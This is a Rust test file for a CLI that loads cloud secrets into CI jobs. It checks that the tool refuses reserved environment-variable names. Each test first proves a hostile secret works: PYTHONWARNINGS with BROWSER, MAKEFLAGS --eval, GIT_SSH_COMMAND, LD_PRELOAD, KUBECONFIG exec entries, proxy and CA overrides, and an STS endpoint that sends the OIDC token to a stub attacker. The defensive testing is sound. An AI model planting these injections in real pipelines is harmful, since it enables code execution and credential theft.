//! Only the pipeline decides what changes how the job runs: names by who chose them, checked
//! against whole families, tried with the real programs a hostile secret would aim at
//! (python3, make, git, a later awssecrets run). Each attack is first shown to work when the
//! name is allowed, so that its refusal proves something.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::support::stub::{JWT, Reply, Stub};
use crate::support::{CANARY, Outcome, TestEnv, Untouched};

/// `exec OPTIONS -- COMMAND...`, unmasked, with the SHELL a CI job has.
fn unmasked(env: &TestEnv, options: &[&str], command: &[&str]) -> Outcome {
    env.exec_command(&[&["--no-mask"], options].concat(), command)
        .env("SHELL", "/bin/sh")
        .run()
}

#[test]
fn python_runs_code_a_secret_names_in_pythonwarnings_unless_refused() {
    let env = TestEnv::new();
    let marker = env.path("pwned");
    // PYTHONWARNINGS imports the module `antigravity` (to resolve a warning category), which
    // opens BROWSER with a URL: BROWSER runs a shell command of the secret's choosing.
    let browser = format!("sh -c 'touch {}' %s", marker.display());
    env.secret(
        "ci/it",
        &serde_json::json!({
            "PYTHONWARNINGS": "all:0:antigravity.x:0:0",
            "BROWSER": browser,
        })
        .to_string(),
    );
    let python = crate::support::emulator::python();
    let print = [python.as_str(), "-c", "print(1)"];
    let allowed = unmasked(
        &env,
        &[
            "-s",
            "ci/it",
            "--allow-name",
            "PYTHONWARNINGS",
            "--allow-name",
            "BROWSER",
        ],
        &print,
    );
    // Python cannot import the category: it says so, but only after the import ran.
    allowed
        .expect_success()
        .expect_stderr("unknown warning category: 'antigravity.x'");
    assert!(marker.exists(), "control: the attack does not work here");
    fs::remove_file(&marker).unwrap();

    unmasked(&env, &["-s", "ci/it"], &print)
        .expect_failure(7, "2 failures:")
        .expect_stderr(r#"variable PYTHONWARNINGS (key "PYTHONWARNINGS" of secret ci/it, SPEC "ci/it"): a reserved name (Python reads it to choose the code it runs"#)
        .expect_stderr(r#"variable BROWSER (key "BROWSER" of secret ci/it, SPEC "ci/it"): a reserved name (tools run the command it names"#)
        .expect_stderr(r#"list the key in the SPEC ("ci/it#PYTHONWARNINGS"), or pass --allow-name PYTHONWARNINGS"#)
        .expect_stderr_without(&["antigravity", "touch"]);
    assert!(!marker.exists(), "python ran the secret's code");
}

#[test]
fn make_evaluates_makeflags_a_secret_sets_unless_refused() {
    let env = TestEnv::new();
    let marker = env.path("pwned");
    fs::write(env.path("Makefile"), "all:\n\t@echo built\n").unwrap();
    env.secret(
        "ci/it",
        &serde_json::json!({ "MAKEFLAGS": format!("--eval=$(shell touch {})", marker.display()) })
            .to_string(),
    );
    let allowed = unmasked(
        &env,
        &["-s", "ci/it", "--allow-name", "MAKEFLAGS"],
        &["make"],
    );
    // make runs the shell command while reading its flags, then finds the option empty.
    allowed
        .expect_success()
        .expect_stdout("built\n")
        .expect_stderr("make: the '-E' option requires a non-empty string argument");
    assert!(marker.exists(), "control: the attack does not work here");
    fs::remove_file(&marker).unwrap();

    unmasked(&env, &["-s", "ci/it"], &["make"]).expect_failure(
        7,
        r#"variable MAKEFLAGS (key "MAKEFLAGS" of secret ci/it, SPEC "ci/it"): a reserved name (a tool reads it as extra command-line options"#,
    );
    assert!(!marker.exists(), "make ran the secret's code");
}

#[test]
fn git_runs_the_ssh_command_a_secret_names_unless_refused() {
    let env = TestEnv::new();
    let marker = env.path("pwned");
    env.secret(
        "ci/it",
        &serde_json::json!({
            "GIT_SSH_COMMAND": format!("touch {}; false", marker.display()),
            "GIT_TOKEN": CANARY,
        })
        .to_string(),
    );
    let ls_remote = ["git", "ls-remote", "ssh://git@127.0.0.1:9/repo.git"];
    unmasked(
        &env,
        &["-s", "ci/it", "--allow-name", "GIT_SSH_COMMAND"],
        &ls_remote,
    )
    // git fails to reach the remote after running the command.
    .expect_code(128)
    .allow_stderr();
    assert!(marker.exists(), "control: the attack does not work here");
    fs::remove_file(&marker).unwrap();

    unmasked(&env, &["-s", "ci/it"], &ls_remote)
        .expect_failure(7, "variable GIT_SSH_COMMAND (key \"GIT_SSH_COMMAND\"")
        .expect_stderr("git runs the program it names")
        .expect_stderr_without(&[CANARY, "touch"]);
    assert!(!marker.exists(), "git ran the secret's command");
    // GIT_TOKEN, a credential, is not reserved: listed alone it goes through.
    unmasked(
        &env,
        &["-s", "ci/it#GIT_TOKEN"],
        &["sh", "-c", "test -n \"$GIT_TOKEN\""],
    )
    .expect_success();
}

#[test]
fn a_later_run_sends_its_oidc_token_where_aws_endpoint_url_sts_says_unless_refused() {
    let env = TestEnv::new();
    let attacker = Stub::start(|_| Reply::text(500, "thanks"));
    env.secret(
        "ci/shared",
        &serde_json::json!({ "AWS_ENDPOINT_URL_STS": attacker.url, "TOKEN": CANARY }).to_string(),
    );
    let artifact = env.path(".ci-secrets");
    // Control: allowed, it is written, and a later stage that loads the artifact and assumes
    // its role with the job's OIDC token hands that token to the attacker.
    env.run([
        "-s",
        "ci/shared",
        "--allow-name",
        "AWS_ENDPOINT_URL_STS",
        "-o",
        ".ci-secrets",
    ])
    .expect_success();
    let role = format!("arn:aws:iam::{}:role/ci", env.account);
    let later_stage = format!(
        "set -a; . ./.ci-secrets; set +a; exec '{}' whoami --role-arn '{role}' \
         --web-identity-token-env AWS_ID_TOKEN",
        crate::support::binary().display()
    );
    env.program("sh")
        .args(["-c", &later_stage])
        .without_credentials()
        .env_remove("AWS_ENDPOINT_URL")
        .env("AWS_ID_TOKEN", JWT)
        .run()
        .expect_code(6)
        .expect_stderr(&format!("(endpoint {})", attacker.url));
    let stolen = attacker.requests();
    assert!(
        stolen
            .iter()
            .any(|request| String::from_utf8_lossy(&request.body).contains(JWT)),
        "control: the token did not reach the attacker"
    );

    fs::remove_file(&artifact).unwrap();
    let untouched = Untouched::of(&artifact);
    env.run(["-s", "ci/shared", "-o", ".ci-secrets"])
        .expect_failure(7, r#"variable AWS_ENDPOINT_URL_STS (key "AWS_ENDPOINT_URL_STS" of secret ci/shared, SPEC "ci/shared"): a reserved name (it chooses where the AWS SDKs and CLI send signed requests"#);
    untouched.assert();
}

#[test]
fn proxies_and_trust_of_any_case_are_refused_where_the_content_chose_them() {
    let env = TestEnv::new();
    env.secret(
        "ci/net",
        r#"{"https_proxy":"http://attacker:3128","AWS_CA_BUNDLE":"/tmp/ca.pem","SSL_CERT_FILE":"/tmp/ca.pem","NODE_EXTRA_CA_CERTS":"/tmp/ca.pem","GIT_SSL_NO_VERIFY":"1","NODE_TLS_REJECT_UNAUTHORIZED":"0","npm_config_registry":"http://attacker"}"#,
    );
    let outcome = env.run(["-s", "ci/net"]);
    outcome.expect_failure(7, "7 failures:");
    for name in [
        "https_proxy",
        "AWS_CA_BUNDLE",
        "SSL_CERT_FILE",
        "NODE_EXTRA_CA_CERTS",
        "GIT_SSL_NO_VERIFY",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "npm_config_registry",
    ] {
        outcome.expect_stderr(&format!("variable {name} (key \"{name}\" of secret ci/net"));
    }
    outcome.expect_stderr_without(&["attacker", "/tmp/ca.pem"]);
    // The pipeline lists the proxy it means: its choice, never refused.
    let listed = env.run(["-s", "ci/net#https_proxy"]);
    assert_eq!(
        listed.expect_success().stdout,
        "https_proxy='http://attacker:3128'\n"
    );
}

#[test]
fn the_readmes_kubeconfig_example_works_and_no_other_spec_can_replace_it() {
    let env = TestEnv::new();
    let kubeconfig = "apiVersion: v1\nkind: Config\nclusters: []\n";
    env.secret("ci/kubeconfig", kubeconfig);
    env.secret(
        "ci/common",
        r#"{"KUBECONFIG":"users:\n- user:\n    exec:\n      command: /tmp/evil\n","REGISTRY":"r.example"}"#,
    );
    let bin = env.path("bin");
    fs::create_dir(&bin).unwrap();
    // kubectl get pods, as a script: what the kubeconfig it was given says.
    let kubectl = bin.join("kubectl");
    fs::write(&kubectl, "#!/bin/sh\ncat \"$KUBECONFIG\"\n").unwrap();
    fs::set_permissions(&kubectl, fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let readme_example = env
        .awssecrets([
            "exec",
            "-s",
            "KUBECONFIG,ci/kubeconfig",
            "--file",
            "KUBECONFIG",
            "--",
            "kubectl",
            "get",
            "pods",
        ])
        .env("PATH", &path)
        .run();
    assert_eq!(readme_example.expect_success().stdout, kubeconfig);
    assert_eq!(readme_example.stderr(), "");

    for allowed in [&[][..], &["--allow-name", "KUBECONFIG"][..]] {
        env.awssecrets([
            "exec",
            "-s",
            "KUBECONFIG,ci/kubeconfig",
            "-s",
            "ci/common",
            "--file",
            "KUBECONFIG",
        ])
        .args(allowed)
        .args(["--", "kubectl", "get", "pods"])
        .env("PATH", &path)
        .run()
        .expect_failure(
            7,
            r#"variable KUBECONFIG: given by secret ci/kubeconfig (SPEC "KUBECONFIG,ci/kubeconfig") and by secret ci/common (SPEC "ci/common"): a reserved name (it names the kubeconfig whose exec: entries kubectl runs) comes from one origin only"#,
        )
        .expect_stderr_without(&["/tmp/evil"]);
    }
    // The keys it needs from the shared secret, listed: no conflict.
    env.awssecrets([
        "exec",
        "-s",
        "KUBECONFIG,ci/kubeconfig",
        "-s",
        "ci/common#REGISTRY",
        "--",
        "sh",
        "-c",
        "test \"$REGISTRY\" = r.example",
    ])
    .run()
    .expect_success();
}

#[test]
fn names_the_pipeline_wrote_are_its_choice_names_from_ids_are_not() {
    let env = TestEnv::new();
    env.secret("ci/plain", "plain-value");
    env.secret("ci/job-token", "job-token-value");
    env.secret("ci/keys", r#"{"path":"p","TOKEN":"t"}"#);
    // An ALIAS, a listed key, with --prefix and --uppercase: the pipeline's own names.
    let chosen = env.run([
        "-s",
        "CI_JOB_TOKEN,ci/plain",
        "-s",
        "GITHUB_TOKEN,ci/plain",
        "-s",
        "ci/keys#path",
        "--uppercase",
    ]);
    assert_eq!(
        chosen.expect_success().stdout,
        "CI_JOB_TOKEN='plain-value'\nGITHUB_TOKEN='plain-value'\nPATH='p'\n"
    );
    assert_eq!(chosen.stderr(), "");
    // A name derived from the id: nobody chose it.
    env.run(["-s", "ci/job-token"]).expect_failure(
        7,
        r#"variable CI_JOB_TOKEN (named after secret ci/job-token, SPEC "ci/job-token"): a reserved name (GitLab CI predefines it for every job); the value's id (a name derived from it) chose it, not the pipeline: name it with an ALIAS ("NAME,ci/job-token"), or pass --allow-name CI_JOB_TOKEN"#,
    );
    // zsh ties `path` to PATH: the content's lower-case `path` is reserved too.
    env.run(["-s", "ci/keys"])
        .expect_failure(7, r#"variable path (key "path" of secret ci/keys"#);
    env.run(["-s", "_,ci/plain"])
        .expect_failure(7, "no variable may be named _");
}

#[test]
fn names_a_listing_found_are_checked_and_only_listed_keys_refuses_every_content_name() {
    let env = TestEnv::new();
    env.secret("ci/prod/db", r#"{"DB_HOST":"h","DB_PASSWORD":"p"}"#);
    env.secret("ci/prod/lib", "plain");
    env.parameter("/ci/app/LD_PRELOAD", "/tmp/evil.so");
    let prefixed = env.run(["-s", "APP,ssm:/ci/app/"]);
    assert_eq!(
        prefixed.expect_success().stdout,
        "APP_LD_PRELOAD='/tmp/evil.so'\n"
    );
    env.run(["-s", "ssm:/ci/app/"]).expect_failure(
        7,
        r#"variable LD_PRELOAD (named after parameter /ci/app/LD_PRELOAD, found by SPEC "ssm:/ci/app/"): a reserved name (the dynamic linker"#,
    );
    env.run(["-s", "ci/prod/*"]).expect_success();
    let strict = env.run(["-s", "ci/prod/*", "--only-listed-keys"]);
    strict
        .expect_failure(7, "3 failures:")
        .expect_stderr(r#"variable DB_HOST (key "DB_HOST" of secret ci/prod/db, SPEC "ci/prod/*"): the secret's content chose this name, and --only-listed-keys takes only names the pipeline wrote"#)
        .expect_stderr(r#"variable CI_PROD_LIB (named after secret ci/prod/lib, found by SPEC "ci/prod/*")"#);
    let listed = env.run([
        "-s",
        "ci/prod/db#DB_HOST",
        "-s",
        "LIB,ci/prod/lib",
        "--only-listed-keys",
    ]);
    assert_eq!(listed.expect_success().stdout, "DB_HOST='h'\nLIB='plain'\n");
}

#[test]
fn a_spec_given_twice_is_fetched_once_and_warned_once() {
    let env = TestEnv::new();
    env.secret("ci/db", r#"{"USER":"u","PASSWORD":"p"}"#);
    let outcome = env.run(["-s", "ci/db", "-s", "ci/db", "-s", "ci/db"]);
    assert_eq!(outcome.expect_success().stdout, "USER='u'\nPASSWORD='p'\n");
    assert_eq!(
        outcome.stderr(),
        "warning: SPEC \"ci/db\" is given 3 times: it is fetched once\n"
    );
}
